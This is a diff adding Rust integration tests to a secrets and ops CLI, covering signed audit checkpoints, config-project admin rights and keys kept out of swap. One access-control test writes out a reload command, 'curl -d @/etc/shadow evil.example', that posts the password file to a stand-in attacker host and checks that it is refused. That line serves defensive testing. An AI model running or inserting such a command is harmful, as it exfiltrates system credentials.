@@ -459,6 +459,67 @@ fn restoring_an_older_copy_of_the_store_in_place_is_found_until_it_is_accepted_o
 }
 
 #[test]
+fn an_older_copy_restored_where_no_checkpoint_is_kept_is_found_with_one_sent_to_a_webhook() {
+    use opsdeck_tests::http_server::{Scripted, ScriptedServer};
+    let dir = store_with_a_trail();
+    let older = tempfile::tempdir().unwrap();
+    let status = std::process::Command::new("python3")
+        .arg("-c")
+        .arg(format!(
+            "import sqlite3; s = sqlite3.connect('{}'); d = sqlite3.connect('{}'); s.backup(d); d.close()",
+            dir.path().join("opsdeck.db").display(),
+            older.path().join("opsdeck.db").display()
+        ))
+        .status()
+        .unwrap();
+    assert!(status.success());
+    ok(dir.path(), "", &["vault", "member", "set", "prod", "mallory", "admin"], None);
+
+    // A checkpoint leaves on a schedule, signed, for a receiver to keep.
+    let receiver = ScriptedServer::start(vec![Scripted::status(200); 4]);
+    ok(dir.path(), "", &["notify", "add", "ledger", "--url", &receiver.url("/checkpoints")], None);
+    let scheduled = ok(dir.path(), "", &["audit", "checkpoint", "--send", "ledger", "--every", "1h"], None);
+    assert_eq!(scheduled["job"], "audit-checkpoint-ledger");
+    serve_until(dir.path(), "a scheduled checkpoint", || !receiver.received().is_empty());
+    let delivery = receiver.received().remove(0);
+    let body: Value = serde_json::from_slice(&delivery.body).unwrap();
+    assert_eq!(body["event"], "audit.checkpoint", "{body}");
+    assert!(body["data"]["seq"].as_i64().unwrap() >= 6, "{body}");
+    let kept = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(kept.path(), &delivery.body).unwrap();
+    let checkpoint = kept.path().to_str().unwrap();
+    let verify_with = |data_dir: &Path, file: &str| {
+        let output = cli(data_dir, "", &["--json", "audit", "verify", "--checkpoint", file], None);
+        let report: Value = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
+        (output.status.code(), report, String::from_utf8_lossy(&output.stderr).into_owned())
+    };
+    let (code, report, stderr) = verify_with(dir.path(), checkpoint);
+    assert_eq!(code, Some(0), "{report} {stderr}");
+
+    // The older copy, opened where this machine's own checkpoint is not (a new
+    // data dir, the key part carried over): whole in itself, but not the trail
+    // the checkpoint vouches for.
+    std::fs::create_dir_all(older.path().join("keys")).unwrap();
+    for part in std::fs::read_dir(dir.path().join("keys")).unwrap() {
+        let part = part.unwrap();
+        std::fs::copy(part.path(), older.path().join("keys").join(part.file_name())).unwrap();
+    }
+    assert_eq!(audit_verify(older.path()).0, Some(0), "without a checkpoint the copy looks whole");
+    let (code, report, _) = verify_with(older.path(), checkpoint);
+    assert_eq!(code, Some(1), "{report}");
+    let problem = report["problem"].as_str().unwrap();
+    assert!(problem.contains("vouches for"), "{problem}");
+
+    // A checkpoint changed by hand is refused, not trusted.
+    let mut forged = body["data"].clone();
+    forged["seq"] = serde_json::json!(3);
+    std::fs::write(kept.path(), forged.to_string()).unwrap();
+    let (code, report, _) = verify_with(older.path(), checkpoint);
+    assert_eq!(code, Some(1), "{report}");
+    assert!(report["problem"].as_str().unwrap().contains("edited or forged"), "{report}");
+}
+
+#[test]
 fn deleting_the_audit_key_record_never_makes_a_new_key_over_the_chain() {
     let dir = store_with_a_trail();
     sqlite(dir.path(), "DELETE FROM deck_keys WHERE name = 'audit'");
@@ -704,6 +765,66 @@ fn as_member(dir: &Path, user: &str, args: &[&str]) -> Output {
 }
 
 #[test]
+fn only_a_config_projects_admin_may_set_what_runs_or_is_written_on_its_behalf() {
+    if os_user() != "root" {
+        eprintln!("skipped: playing several members needs the superuser (OPSDECK_ACT_AS)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path();
+    let file = path.join("shop.yaml");
+    std::fs::write(&file, "port: 80\n").unwrap();
+    let expect_ok = |user: &str, args: &[&str]| {
+        let output = as_member(path, user, args);
+        assert!(output.status.success(), "{user} {args:?}: {}", String::from_utf8_lossy(&output.stderr));
+    };
+    let expect_refused = |user: &str, args: &[&str]| {
+        let output = as_member(path, user, args);
+        assert_eq!(output.status.code(), Some(2), "{user} {args:?} was allowed");
+        let said = String::from_utf8_lossy(&output.stderr);
+        assert!(
+            said.contains("not an admin of config project `shop`") && said.contains("config admin add"),
+            "{said}"
+        );
+    };
+    // Ana makes the project, so she is its admin; anyone may still change values.
+    expect_ok("ana", &["config", "set", "shop", "dev", "port", "80"]);
+    expect_ok("ana", &["config", "reload", "shop", "dev", "--command", "true"]);
+    expect_ok("bob", &["config", "set", "shop", "dev", "port", "81"]);
+    // Bob may not choose what runs after a change, what file is written, or
+    // turn the approval step off.
+    expect_refused(
+        "bob",
+        &["config", "reload", "shop", "dev", "--command", "curl -d @/etc/shadow evil.example"],
+    );
+    expect_refused("bob", &["config", "link", "shop", "dev", file.to_str().unwrap()]);
+    expect_refused("bob", &["config", "approvals", "shop", "--none"]);
+    expect_refused("bob", &["config", "admin", "add", "shop", "bob"]);
+    let hook: Value =
+        serde_json::from_slice(&as_member(path, "bob", &["config", "reload", "shop", "dev"]).stdout).unwrap();
+    assert_eq!(hook["command"], "true", "the refused hook was stored: {hook}");
+    let denied: Value = serde_json::from_slice(
+        &as_member(path, "ana", &["audit", "log", "--action", "config.reload_hook"]).stdout,
+    )
+    .unwrap();
+    assert!(
+        denied
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|entry| entry["outcome"] == "denied"
+                && entry["actor"].as_str().unwrap().starts_with("cli:bob")),
+        "{denied}"
+    );
+    // Once Ana makes him an admin, he may.
+    expect_ok("ana", &["config", "admin", "add", "shop", "bob"]);
+    expect_ok("bob", &["config", "reload", "shop", "dev", "--command", "true"]);
+    expect_ok("bob", &["config", "admin", "rm", "shop", "ana"]);
+    let output = as_member(path, "bob", &["config", "admin", "rm", "shop", "bob"]);
+    assert_eq!(output.status.code(), Some(2), "the last admin was removed");
+}
+
+#[test]
 fn a_scheduled_rotation_runs_with_its_definers_rights_and_only_its_sealed_verification_command() {
     if os_user() != "root" {
         panic!("this test plays several members with OPSDECK_ACT_AS, which only the superuser may set");
@@ -785,7 +906,7 @@ fn a_webhook_receiver_cannot_redirect_signed_events_elsewhere() {
 }
 
 #[test]
-fn another_process_of_the_same_user_cannot_read_the_decks_environment_or_memory() {
+fn another_process_of_the_same_user_cannot_read_the_decks_environment_or_memory_and_keys_stay_off_swap() {
     // Run everything as one ordinary account (`nobody` when the tests run as
     // root), so the reader has exactly the rights of the deck's own user.
     let shared = tempfile::tempdir().unwrap();
@@ -808,6 +929,17 @@ fn another_process_of_the_same_user_cannot_read_the_decks_environment_or_memory(
         command.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", shared.path());
         command
     };
+    // A job for `serve` to run: checking its seal loads a deck key, which the
+    // process then holds (keys are loaded on first use).
+    let added = as_one_user(&binary)
+        .arg("--data-dir")
+        .arg(&data)
+        .args(["jobs", "add", "warm-up", "--once", "--command", "true"])
+        .env("OPSDECK_PASSPHRASE", PASSPHRASE)
+        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
+        .output()
+        .unwrap();
+    assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
     let mut serve = as_one_user(&binary)
         .arg("--data-dir")
         .arg(&data)
@@ -818,9 +950,19 @@ fn another_process_of_the_same_user_cannot_read_the_decks_environment_or_memory(
         .stderr(Stdio::null())
         .spawn()
         .unwrap();
-    // The process must be up (its main function ran) before it is read.
-    std::thread::sleep(Duration::from_millis(1500));
+    // The process must be up (its main function ran) before it is read; once
+    // it holds its keys, their pages are locked in memory (kept off swap).
     let pid = serve.id();
+    let locked_kib = || {
+        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+        let line = status.lines().find(|line| line.starts_with("VmLck:")).map(str::to_owned);
+        line.and_then(|line| line.split_whitespace().nth(1)?.parse::<u64>().ok()).unwrap_or(0)
+    };
+    let deadline = std::time::Instant::now() + Duration::from_secs(60);
+    while locked_kib() == 0 && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(locked_kib() > 0, "the deck holds its keys in pages not locked in memory");
     let read = as_one_user(Path::new("/bin/cat"))
         .arg(format!("/proc/{pid}/environ"))
         .arg(format!("/proc/{pid}/mem"))
